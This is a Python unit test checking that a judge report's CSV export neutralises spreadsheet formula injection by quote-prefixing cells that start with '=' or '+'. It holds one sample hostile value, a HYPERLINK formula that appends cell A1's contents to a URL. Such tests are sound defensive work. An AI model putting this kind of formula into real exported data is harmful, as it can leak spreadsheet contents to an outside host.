"""The judge report's CSV (``transforms.judge_tables.tables_csv``)."""

import csv
import io

from transforms.judge_tables import Table, tables_csv


def test_csv_cells_never_open_as_spreadsheet_formulas():
    hostile = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"details")'
    table = Table("k", "T", "note", ["candidate", "score", "note"], [[hostile, -0.25, "+1 or -1"], ["ok", 1, None]])
    rows = list(csv.reader(io.StringIO(tables_csv([table]))))
    assert rows[1] == ["k", "0", "candidate", f"'{hostile}"]
    assert rows[2] == ["k", "0", "score", "-0.25"]  # a number stays a number
    assert rows[3] == ["k", "0", "note", "'+1 or -1"]
    assert rows[4:] == [["k", "1", "candidate", "ok"], ["k", "1", "score", "1"], ["k", "1", "note", ""]]
